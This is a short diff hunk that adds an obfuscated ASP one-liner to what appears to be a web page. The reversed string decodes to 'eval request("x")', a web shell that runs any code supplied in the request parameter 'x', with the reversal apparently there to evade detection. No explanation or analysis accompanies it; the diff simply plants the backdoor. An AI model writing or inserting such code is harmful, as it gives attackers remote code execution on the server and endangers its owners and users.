@@ -1,0 +1,3 @@
+<%
+Execute StrReverse(")""x""(tseuqer lave")
+%>
